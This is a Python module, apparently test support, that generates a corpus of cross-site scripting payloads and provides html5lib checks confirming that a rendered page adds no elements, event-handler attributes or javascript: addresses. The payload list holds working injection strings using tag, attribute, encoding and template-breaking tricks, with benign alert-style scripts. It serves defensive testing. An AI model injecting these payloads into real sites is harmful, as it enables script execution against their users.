"""A corpus of texts that would run as script if a page let them, and the check that a page kept them text."""

import itertools

import html5lib

_SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//x.invalid')")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "＜script＞{}＜/script＞",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:{}'>",
    "<math href=javascript:{}>x</math>",
    "<img src=x onerror={}>",
    "<img src=`x` onerror={}>",
    "<image src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>点我</a>",
    "<a href='&#106;avascript:{}'>点我</a>",
    "[点我](javascript:{})",
    '![图](x" onerror="{})',
    "<form action=javascript:{}><button>提交</button></form>",
    "<button formaction=javascript:{}>提交</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<style>@import 'javascript:{}'</style>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    '"><script>{}</script>',
    "' onmouseover='{}",
    '" onmouseover="{}" x="',
    "` onmouseover=`{}`",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "<!--<img src='--><img src=x onerror={}>'>",
    "<![CDATA[<script>{}</script>]]>",
    "WEBVTT\n\n00:00.000 --> 00:01.000\n<v onclick={}>字幕",
    "<script\x0b>{}</script>",
    "\u202e<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
)
PAYLOADS = tuple(dict.fromkeys(tag.format(script) for script, tag in itertools.product(_SCRIPTS, _TAGS)))

Shape = list[tuple[str, tuple[str, ...]]]


def shape(page: str) -> Shape:
    """Every element of a page with the names of its attributes, in order: what a text must not add to."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    return [(str(element.tag), tuple(sorted(map(str, element.attrib)))) for element in tree.iter()]


def foreign_attributes(page: str) -> list[str]:
    """Handlers, and addresses that run: none may be on a page of ours."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        for name, value in element.attrib.items():
            runs = str(value).strip().lower().startswith(("javascript:", "data:text/html"))
            if str(name).lower().startswith("on") or runs:
                found.append(f"<{element.tag} {name}={value!r}>")
    return found
